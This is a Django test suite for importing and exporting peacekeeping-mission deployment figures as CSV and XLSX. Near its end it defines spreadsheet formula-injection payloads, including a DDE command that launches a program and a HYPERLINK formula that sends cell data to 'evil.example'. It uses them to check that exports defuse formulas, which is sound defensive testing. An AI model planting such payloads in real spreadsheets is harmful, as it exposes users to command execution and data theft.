"""Snapshots (and missions) in and out of spreadsheets: `manage.py import_snapshots` and
the admin's import and export share one resource and one set of checks."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from missions.management.commands.import_snapshots import Command
from missions.models import DeploymentSnapshot, Mission

from .helpers import DAY, make_mission, make_region, make_snapshot, make_user

pytestmark = pytest.mark.django_db

HEADER = "region,mission,as_of,authorized,deployed,source"


@pytest.fixture
def records():
    ukraine = make_region(slug="ukraine", name="Ukraine")
    euam = make_mission(
        ukraine,
        slug="euam-ukraine",
        name="EU Advisory Mission",
        acronym_en="EUAM Ukraine",
        acronym_fr="EUAM Ukraine",
    )
    caribbean = make_region(slug="caribbean-region", name="Caribbean region", position=2)
    binuh = make_mission(
        caribbean, slug="binuh", name="Integrated Office", acronym_en="BINUH", acronym_fr="BINUH"
    )
    make_snapshot(ukraine, euam, as_of=DAY, authorized=40)
    return ukraine, euam, caribbean, binuh


def write_csv(tmp_path, *rows, header=HEADER):
    path = tmp_path / "figures.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def run(path, *args):
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_snapshots", str(path), *args, stdout=out, stderr=err)
    except CommandError as e:
        return out.getvalue(), err.getvalue(), e
    return out.getvalue(), err.getvalue(), None


# The command


def test_the_command_imports_every_row_matching_regions_and_missions_by_any_name(records, tmp_path):
    ukraine, euam, caribbean, binuh = records
    path = write_csv(
        tmp_path,
        "Ukraine,euam ukraine,2021-01-01,45,30,UN report",  # acronym, any case
        "caribbean-region,BINUH,2021-01-01,20,,",  # region slug
        "caribbean region,Integrated office,2021-02-01,21,5,",  # English names
        "ukraine,euam-ukraine,2021-03-01,46,31,",  # slugs
        "Ukraine,,2021-01-01,50,,Region total",  # a region-level figure
    )
    out, err, error = run(path)
    assert error is None, err
    assert "Imported 5 snapshot(s)" in out
    assert list(euam.snapshots.values_list("as_of", "authorized", "deployed", "source")) == [
        (DAY, 40, None, ""),
        (datetime.date(2021, 1, 1), 45, 30, "UN report"),
        (datetime.date(2021, 3, 1), 46, 31, ""),
    ]
    assert binuh.snapshots.count() == 2
    region_figure = DeploymentSnapshot.objects.get(mission=None)
    assert (region_figure.region, region_figure.authorized) == (ukraine, 50)


def test_an_imported_figure_is_recorded_in_history_with_the_file_name(records, tmp_path):
    out, err, error = run(write_csv(tmp_path, "ukraine,,2021-01-01,50,,"))
    assert error is None, err
    record = DeploymentSnapshot.objects.get(mission=None).history.get()
    assert record.history_change_reason == "Imported from figures.csv"


def test_a_dry_run_lists_what_would_be_created_and_writes_nothing(records, tmp_path):
    path = write_csv(tmp_path, "Ukraine,EUAM Ukraine,2021-01-01,45,30,", "Ukraine,,2021-01-01,50,,")
    out, err, error = run(path, "--dry-run")
    assert error is None, err
    assert "Dry run: 2 snapshot(s) would be created" in out
    assert (
        "line 2: EU Advisory Mission (EUAM Ukraine), 2021-01-01: authorized 45, deployed 30" in out
    )
    assert "line 3: Ukraine, 2021-01-01: authorized 50, deployed —" in out
    assert "Nothing was written." in out
    assert DeploymentSnapshot.objects.count() == 1


def test_a_dry_run_with_bad_rows_reports_them_too(records, tmp_path):
    out, err, error = run(write_csv(tmp_path, "Ukraine,,2021-01-01,5,6,"), "--dry-run")
    assert error is not None
    assert "line 2: deployed: Deployed cannot be more than authorized." in err


@pytest.mark.parametrize(
    "row,problem",
    [
        ("Narnia,,2021-01-01,5,,", "line 3: region: There is no region “Narnia”."),
        (",,2021-01-01,5,,", "line 3: region: This column cannot be empty."),
        (
            "Ukraine,MONUSCO,2021-01-01,5,,",
            "line 3: mission: There is no mission “MONUSCO” in the region “Ukraine”.",
        ),
        (
            "Ukraine,BINUH,2021-01-01,5,,",  # exists, but in another region
            "line 3: mission: There is no mission “BINUH” in the region “Ukraine”.",
        ),
        ("Ukraine,,2021-02-30,5,,", "line 3: as_of: Enter a valid date in the form YYYY-MM-DD."),
        ("Ukraine,,01/02/2021,5,,", "line 3: as_of: Enter a valid date in the form YYYY-MM-DD."),
        ("Ukraine,,,5,,", "line 3: as_of: This field cannot be null."),
        ("Ukraine,,2999-01-01,5,,", "line 3: as_of: The date cannot be in the future."),
        (
            "Ukraine,,2021-01-01,-1,,",
            "line 3: authorized: Ensure this value is greater than or equal to 0.",
        ),
        ("Ukraine,,2021-01-01,ten,,", "line 3: authorized: Enter a whole number."),
        ("Ukraine,,2021-01-01,1.5,,", "line 3: authorized: Enter a whole number."),
        ("Ukraine,,2021-01-01,5,-2,", "line 3: deployed: Ensure this value is greater than"),
        ("Ukraine,,2021-01-01,5,6,", "line 3: deployed: Deployed cannot be more than authorized."),
        ("Ukraine,,2021-01-01,,,", "line 3: Give the authorized figure, the deployed, or both."),
        (
            "Ukraine,EUAM Ukraine,2020-06-01,41,,",  # the fixture's snapshot
            "line 3: as_of: This mission already has figures for this date.",
        ),
        (
            "Ukraine,,2021-05-05,5,,",  # the same as line 2
            "line 3: as_of: This region already has figures for this date.",
        ),
    ],
)
def test_any_bad_row_stops_the_import_with_its_line_and_reason_and_writes_nothing(
    records, tmp_path, row, problem
):
    path = write_csv(tmp_path, "Ukraine,,2021-05-05,50,,good row", row)
    out, err, error = run(path)
    assert error is not None and "Nothing was imported" in str(error)
    assert problem in err
    assert DeploymentSnapshot.objects.count() == 1
    assert DeploymentSnapshot.history.count() == 1


def test_every_bad_row_is_reported_not_just_the_first(records, tmp_path):
    path = write_csv(
        tmp_path,
        "Narnia,,2021-01-01,5,,",
        "Ukraine,,2021-01-01,5,,",
        "Ukraine,,2021-01-02,5,9,",
    )
    out, err, error = run(path)
    assert "2 problem(s) found" in str(error)
    assert err.index("line 2: region") < err.index("line 4: deployed")


@pytest.mark.parametrize(
    "header,row,problem",
    [
        (
            "region,mission,as_of,authorized,source",
            "Ukraine,,2021-01-01,5,",
            "missing columns: deployed",
        ),
        (HEADER + ",notes", "Ukraine,,2021-01-01,5,1,,", "unknown columns: notes"),
    ],
)
def test_a_wrong_header_is_refused(records, tmp_path, header, row, problem):
    path = write_csv(tmp_path, row, header=header)
    out, err, error = run(path)
    assert error is not None
    assert problem in err
    assert DeploymentSnapshot.objects.count() == 1


def test_the_header_may_differ_in_case_and_spacing(records, tmp_path):
    path = write_csv(
        tmp_path,
        "Ukraine,,2021-01-01,5,,",
        header=" Region,Mission,AS_OF,authorized,deployed,source",
    )
    out, err, error = run(path)
    assert error is None, err


def test_a_missing_or_unreadable_file_is_a_clear_error(tmp_path):
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_snapshots", str(tmp_path / "nope.csv"))
    with pytest.raises(CommandError, match="use a .csv or .xlsx file"):
        call_command("import_snapshots", str(tmp_path / "figures.txt"))


def test_a_long_import_shows_its_progress(records, tmp_path, monkeypatch):
    monkeypatch.setattr(Command, "progress_every", 2)
    rows = [f"Ukraine,,2021-01-{day:02d},{day},," for day in range(1, 6)]
    out, err, error = run(write_csv(tmp_path, *rows))
    assert error is None, err
    assert "Checked 2 of 5 rows…" in err and "Checked 4 of 5 rows…" in err


def test_the_command_reads_a_spreadsheet_too(records, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(HEADER.split(","))
    book.active.append(["Ukraine", "EUAM Ukraine", datetime.datetime(2021, 1, 1), 45, 30, None])
    path = tmp_path / "figures.xlsx"
    book.save(path)
    out, err, error = run(path)
    assert error is None, err
    assert DeploymentSnapshot.objects.filter(as_of="2021-01-01", authorized=45).exists()


# The admin


def login(group):
    client = Client()
    client.force_login(make_user(group.lower(), group))
    return client


def upload(client, content, name="figures.csv", file_format="0", model="deploymentsnapshot"):
    return client.post(
        reverse(f"admin:missions_{model}_import"),
        {
            "resource": "0",
            "format": file_format,
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def confirm(client, preview, model="deploymentsnapshot"):
    data = {field.html_name: field.value() for field in preview.context["confirm_form"]}
    return client.post(reverse(f"admin:missions_{model}_process_import"), data)


def test_an_admin_import_shows_a_preview_then_imports_on_confirmation(records):
    editor = login("Editors")
    content = f"{HEADER}\nUkraine,EUAM Ukraine,2021-01-01,45,30,\nUkraine,,2021-01-01,50,,\n"

    preview = upload(editor, content.encode())

    assert preview.status_code == 200
    assert preview.context["confirm_form"] is not None
    assert preview.context["result"].totals["new"] == 2
    assert DeploymentSnapshot.objects.count() == 1  # nothing written yet

    response = confirm(editor, preview)
    assert response.status_code == 302
    assert DeploymentSnapshot.objects.count() == 3
    record = DeploymentSnapshot.history.filter(as_of="2021-01-01").first()
    assert record.history_user.username == "editors"


def test_an_admin_import_with_a_bad_row_reports_each_row_and_imports_nothing(records):
    editor = login("Editors")
    content = (
        f"{HEADER}\nUkraine,EUAM Ukraine,2021-01-01,45,30,\n"
        "Ukraine,,2021-01-01,5,6,\nNarnia,,2021-01-01,5,,\n"
    )

    preview = upload(editor, content.encode())

    assert "confirm_form" not in preview.context
    invalid = {row.number: row.error_dict for row in preview.context["result"].invalid_rows}
    assert invalid == {
        3: {"deployed": ["Deployed cannot be more than authorized."]},
        4: {"region": ["There is no region “Narnia”."]},
    }
    html = preview.content.decode()
    assert "Deployed cannot be more than authorized." in html
    assert DeploymentSnapshot.objects.count() == 1


def test_an_admin_import_with_a_wrong_header_says_so_without_a_traceback(records):
    preview = upload(login("Editors"), f"{HEADER},notes\nUkraine,,2021-01-01,5,,,\n".encode())
    html = preview.content.decode()
    assert "The header row is wrong (unknown columns: notes)." in html
    assert "Traceback" not in html
    assert "confirm_form" not in preview.context


def test_an_import_confirmed_after_the_data_changed_is_refused_whole(records):
    ukraine = records[0]
    editor = login("Editors")
    content = f"{HEADER}\nUkraine,EUAM Ukraine,2021-01-01,45,30,\nUkraine,,2021-01-01,50,,\n"
    preview = upload(editor, content.encode())
    make_snapshot(ukraine, as_of=datetime.date(2021, 1, 1), authorized=50)  # meanwhile

    response = confirm(editor, preview)

    assert response.status_code == 302
    messages = [str(m) for m in response.wsgi_request._messages]
    assert any(m.startswith("Nothing was imported") for m in messages)
    assert DeploymentSnapshot.objects.count() == 2  # the fixture's and the one made meanwhile


def test_an_admin_import_reads_xlsx(records):
    book = openpyxl.Workbook()
    book.active.append(HEADER.split(","))
    book.active.append(["Ukraine", "", datetime.datetime(2021, 1, 1), 50, None, "Report"])
    content = io.BytesIO()
    book.save(content)
    editor = login("Editors")

    preview = upload(editor, content.getvalue(), name="figures.xlsx", file_format="1")
    assert confirm(editor, preview).status_code == 302
    assert DeploymentSnapshot.objects.filter(mission=None, authorized=50).exists()


def export(client, file_format, model="deploymentsnapshot"):
    url = reverse(f"admin:missions_{model}_export")
    form = client.get(url).context["form"]
    data = {field.html_name: "on" for field in form if field.value() is True}
    data.update(resource="0", format=file_format)
    return client.post(url, data)


def test_snapshots_export_to_csv_in_the_import_format(records):
    analyst = login("Analysts")
    response = export(analyst, "0")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines == [HEADER, "ukraine,euam-ukraine,2020-06-01,40,,"]


def test_snapshots_export_to_xlsx(records):
    response = export(login("Analysts"), "1")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.active.values)
    assert rows[0] == tuple(HEADER.split(","))
    assert rows[1][:4] == ("ukraine", "euam-ukraine", datetime.datetime(2020, 6, 1), 40)


def test_missions_export_and_import_round_trip_with_an_update(records):
    editor = login("Editors")
    exported = export(editor, "0", model="mission").content.decode("utf-8-sig")
    edited = exported.replace("EU Advisory Mission,", "EU Advisory Mission for Ukraine,")

    preview = upload(editor, edited.encode(), model="mission")
    assert preview.context["result"].totals == {
        "new": 0,
        "update": 1,
        "delete": 0,
        "skip": 1,
        "error": 0,
        "invalid": 0,
    }
    assert confirm(editor, preview, model="mission").status_code == 302
    assert Mission.objects.get(slug="euam-ukraine").name_en == "EU Advisory Mission for Ukraine"


def test_a_mission_row_from_an_out_of_date_export_is_refused(records):
    editor = login("Editors")
    exported = export(editor, "0", model="mission").content.decode("utf-8-sig")
    mission = Mission.objects.get(slug="euam-ukraine")
    mission.body_en = "Someone's later edit."
    mission.save()

    edited = exported.replace("EU Advisory Mission,", "EU Advisory Mission for Ukraine,")
    preview = upload(editor, edited.encode(), model="mission")

    [row] = preview.context["result"].invalid_rows
    assert "This mission was changed after the file was exported" in row.error_dict["version"][0]
    mission.refresh_from_db()
    assert mission.name_en == "EU Advisory Mission"


def test_a_mission_import_never_publishes(records):
    editor = login("Editors")
    content = (
        "slug,region,name_en,name_fr,kind,published,version\n"
        "new-mission,ukraine,New mission,Nouvelle mission,un,1,\n"
    )
    preview = upload(editor, content.encode(), model="mission")
    confirm(editor, preview, model="mission")
    assert Mission.objects.get(slug="new-mission").published is False


def test_a_mission_import_applies_the_same_rules_as_the_admin(records):
    editor = login("Editors")
    content = (
        "slug,region,name_en,name_fr,kind,started,ended,version\n"
        "new-mission,ukraine,New mission,Nouvelle,un,2020-01-01,2019-01-01,\n"
        "binuh,caribbean-region,Integrated Office,,un,,,1\n"
    )
    preview = upload(editor, content.encode(), model="mission")
    invalid = {row.number: row.error_dict for row in preview.context["result"].invalid_rows}
    assert invalid[2] == {"ended": ["The end date cannot be before the start date."]}
    # BINUH is published: taking away its French name is refused like in the form.
    assert "Name is missing in French" in invalid[3]["name_fr"][0]
    assert not Mission.objects.filter(slug="new-mission").exists()


def test_the_snapshot_date_rule_uses_the_local_date(records, tmp_path):
    today = timezone.localdate().isoformat()
    out, err, error = run(write_csv(tmp_path, f"Ukraine,,{today},5,,"))
    assert error is None, err


FORMULAS = {
    "name_en": "=cmd|' /C calc'!A0",
    "acronym_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "body_en": "- a bullet, which a spreadsheet reads as a minus",
    "body_fr": "'=already quoted",
}


@pytest.mark.parametrize("file_format", ["0", "1"])
def test_every_admin_export_defuses_text_a_spreadsheet_would_run_as_a_formula(records, file_format):
    ukraine, euam, _caribbean, _binuh = records
    Mission.objects.filter(pk=euam.pk).update(**FORMULAS)
    make_snapshot(ukraine, as_of=datetime.date(2021, 1, 1), authorized=5, source="@SUM(A1)")
    analyst = login("Analysts")
    cells = []
    for model in ("mission", "deploymentsnapshot"):
        response = export(analyst, file_format, model=model)
        if file_format == "0":
            cells += [
                cell
                for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
                for cell in row
            ]
        else:
            book = openpyxl.load_workbook(io.BytesIO(response.content))
            assert not [
                c.coordinate for row in book.active.iter_rows() for c in row if c.data_type == "f"
            ]
            cells += [c.value for row in book.active.iter_rows() for c in row]
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert "'" + FORMULAS["name_en"] in texts
    assert "'" + FORMULAS["acronym_en"] in texts
    assert "'" + FORMULAS["body_en"] in texts
    assert "''=already quoted" in texts
    assert "'@SUM(A1)" in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_defused_mission_export_imports_back_unchanged(records):
    _ukraine, euam, _caribbean, _binuh = records
    Mission.objects.filter(pk=euam.pk).update(**FORMULAS)
    editor = login("Editors")
    exported = export(editor, "0", model="mission").content

    preview = upload(editor, exported, model="mission")

    assert preview.context["result"].totals["skip"] == 2
    assert confirm(editor, preview, model="mission").status_code == 302
    euam.refresh_from_db()
    assert {field: getattr(euam, field) for field in FORMULAS} == FORMULAS
